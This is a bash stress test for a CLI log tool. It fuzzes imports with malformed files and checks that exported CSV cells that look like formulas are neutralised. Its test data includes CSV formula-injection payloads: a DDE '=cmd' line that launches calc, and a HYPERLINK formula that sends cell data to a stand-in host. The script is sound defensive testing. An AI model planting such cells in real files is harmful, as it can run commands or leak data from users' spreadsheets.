#!/usr/bin/env bash
# Hostile input to qlog import and audit import: random bytes (fixed-seed), invalid UTF-8, quotes
# left open, NUL bytes, 1 MB fields, a header of a million columns, Big5 garbage, byte-order marks,
# terminal escapes (the files: hostile_files.py). Each run must exit 3 (or 0 when the file happens
# to be valid), never crash (exit >= 128, or a sanitizer report on stderr), say why in one line
# `PROGRAM: error: …` (plus a hint) without echoing raw control bytes, and leave the database as it
# was after a 3. Then formula-looking cells imported legitimately come out of `qlog list --format
# csv` and `qlog sheet --format csv` neutralised with a leading '.
#
# Knobs: IMCOMPLY_STRESS_SEED (20261129).
here=$(cd "$(dirname "$0")" && pwd)
source "$here/../cli/lib.sh"
source "$here/stress_lib.sh"
seed=${IMCOMPLY_STRESS_SEED:-20261129}
started=$SECONDS

office  # wang active since 2026-11-02 for entry-exit,foreigner
"$BIN/acct" --as chen add kao --name 高稽核 >/dev/null && "$BIN/acct" --as chen role kao --grant auditor >/dev/null
python3 "$here/hostile_files.py" "$WORK/hostile" "$seed" || { echo "cannot make the hostile files" >&2; exit 1; }

# clean_text FILE: valid UTF-8, with no control character but newline and tab (C0, DEL, C1: what
# a terminal would act on, e.g. ESC [ 2 J, or CSI U+009B).
clean_text() {
  iconv -f UTF-8 -t UTF-8 "$1" >/dev/null 2>&1 && [ "$(LC_ALL=C tr -cd '\000-\010\013-\037\177' <"$1" | wc -c)" -eq 0 ] &&
    ! LC_ALL=C grep -q $'\xc2[\x80-\x9f]' "$1"
}
# shown FILE: the start of FILE with its control characters escaped.
shown() { python3 -c 'import sys; print(ascii(open(sys.argv[1], "rb").read()[:240].decode("utf-8", "replace")))' "$1"; }

runs=0 accepted=0 rejected=0
before=$(snapshot)
while IFS=$'\t' read -r file program encoding; do
  runs=$((runs + 1))
  name="$program import $(basename "$file") --encoding $encoding"
  as=chen
  [ "$program" = audit ] && as=kao
  run "$program" --as "$as" import "$file" --encoding "$encoding"
  if [ "$RC" -ge 128 ] || sanitizer_report "$ERR"; then
    fail "$name: crashed"
    before=$(snapshot)
    continue
  fi
  case $RC in
    3)
      rejected=$((rejected + 1))
      after=$(snapshot)
      if [ "$after" == "$before" ]; then ok; else fail "$name: rejected, but the database changed"; before=$after; fi
      if [ "$(head -1 "$ERR" | cut -c1-$((${#program} + 9)))" == "$program: error: " ]; then ok; else fail "$name: the message is not \"$program: error: …\""; fi
      err_one_line "$name: the error"
      if clean_text "$ERR"; then ok; else fail "$name: the message echoes raw control bytes or invalid UTF-8: $(shown "$ERR")"; fi
      ;;
    0)
      accepted=$((accepted + 1))
      echo "hostile: accepted as valid: $name"
      ok
      before=$(snapshot)
      ;;
    *)
      fail "$name: exit $RC, wanted 3 (or 0)"
      before=$(snapshot)
      ;;
  esac
done <"$WORK/hostile/manifest"
echo "hostile: $runs imports of hostile files: $rejected rejected, $accepted accepted"
same "$(integrity)" ok "integrity_check ok after the hostile files"
run audit verify
expect 0 "audit verify passes after the hostile files"

# --- formula-looking cells, imported legitimately, come out neutralised ---
# (in the purpose, the basis and the case number, and a name on the roster)
"$BIN/acct" --as chen add fx --name "=1+1" >/dev/null
"$BIN/acct" --as chen apply fx --items entry-exit --date 2026-11-02 >/dev/null
for stage in head county agency; do "$BIN/acct" --as chen approve fx --stage $stage --date 2026-11-02 >/dev/null; done
{
  echo "user,login,logout,item,purpose,basis,case"
  echo "wang,2026-11-20 09:00,2026-11-20 09:05,entry-exit,\"=cmd|' /C calc'!A0\",,"
  echo "wang,2026-11-20 10:00,2026-11-20 10:05,entry-exit,@SUM(1),=2+5,@A1"
  echo "wang,2026-11-20 11:00,2026-11-20 11:05,entry-exit,+SUM(1+1),,"
  echo "wang,2026-11-20 12:00,2026-11-20 12:05,entry-exit,-2+3,,"
  echo "fx,2026-11-20 13:00,2026-11-20 13:05,entry-exit,\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"ok\"\")\",,"
} >"$WORK/formulas.csv"
run qlog --as chen import "$WORK/formulas.csv"
expect 0 "formula-looking purposes are legitimate input"
formulas=("=cmd|' /C calc'!A0" "@SUM(1)" "+SUM(1+1)" "-2+3" '=HYPERLINK("http://x.example/?"&A1,"ok")' "=1+1")
list_only=("=2+5" "@A1")  # the sheet (Annex 1) has no basis or case column
# cells FILE: every cell of a CSV file, one a line (newlines inside cells as \n).
cells() { python3 -c 'import csv, sys
csv.field_size_limit(sys.maxsize)
for row in csv.reader(open(sys.argv[1], encoding="utf-8-sig", newline="")):
    for c in row: print(c.replace("\n", "\\n"))' "$1"; }
for format in list sheet; do
  if [ $format = list ]; then
    run qlog list --month 2026-11 --format csv
  else
    run qlog sheet --month 2026-11 --format csv
  fi
  expect 0 "qlog $format --format csv"
  cells "$OUT" >"$WORK/cells"
  extra=()
  [ $format = list ] && extra=("${list_only[@]}")
  for f in "${formulas[@]}" "${extra[@]}"; do
    if grep -qxF -- "'$f" "$WORK/cells"; then ok; else fail "qlog $format --format csv: the cell $f does not come out as '$f"; fi
  done
  bare=$(grep -E '^[=+@]|^-[0-9(]' "$WORK/cells" | grep -vE '^-+$' | head -3)
  same "$bare" "" "qlog $format --format csv: no cell starts a formula"
done
echo "hostile: $runs hostile imports and the formula checks in $((SECONDS - started)) s"
finish
